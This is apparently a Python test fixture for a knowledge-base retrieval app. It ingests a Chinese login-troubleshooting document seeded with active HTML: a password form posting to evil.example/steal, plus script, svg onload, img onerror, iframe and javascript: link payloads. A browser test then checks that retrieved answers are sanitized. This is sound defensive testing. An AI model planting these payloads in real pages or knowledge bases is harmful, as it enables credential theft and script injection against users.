"""A knowledge file carrying active HTML (the payloads found by probing), and an app serving it.

`launch_hostile_app(root)` is the small test app (tests/app/ui_server.py) with HOSTILE_DOC
ingested into its "demo" base beside the demo slice; QUESTION retrieves it. Every payload
sets `window.__pwned`, so a browser test can tell whether any of them ran.
"""

from __future__ import annotations

from pathlib import Path

HOSTILE_DOC = """# 登录门户故障排查

## 门户无法登录

登录门户无法登录时，请在下面重新输入管理员密码：<form action="https://evil.example/steal"><input type="password" name="p"><button>提交</button></form> 然后刷新登录门户页面。

登录门户报错时请检查证书是否过期 <script>window.__pwned = 1</script> 并清理浏览器缓存。<svg onload="window.__pwned = 2"><circle r="4"/></svg>

登录门户的详细说明见<a href="javascript:window.__pwned=4">门户手册</a>与[门户帮助](javascript:window.__pwned=3)，也可以联系门户管理员。<img src="x" onerror="window.__pwned = 5"><iframe src="javascript:window.__pwned=6"></iframe>
"""
QUESTION = "登录门户无法登录怎么办？"
ACTIVE = ("<form", "<input", "<script", "<svg", "onload", "onerror", "javascript:", "<iframe", "<button")
"""Substrings no answer, citation or token may carry once sanitized."""


def launch_hostile_app(root: Path, **kwargs):
    from knowledge.service import KnowledgeService
    from models.embeddings.registry import create_embedder
    from tests.app.ui_server import ingest_small_demo, launch_small_app, small_settings

    settings = small_settings(root, kwargs.get("tools"))
    ingest_small_demo(settings)
    folder = root / "hostile"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "portal-login.md").write_text(HOSTILE_DOC, encoding="utf-8")
    service = KnowledgeService(settings.knowledge, settings.data_dir, create_embedder(settings.models.embedder))
    try:
        service.ingest([folder], kb="demo")
    finally:
        service.close()
    return launch_small_app(root, ingest=False, **kwargs)
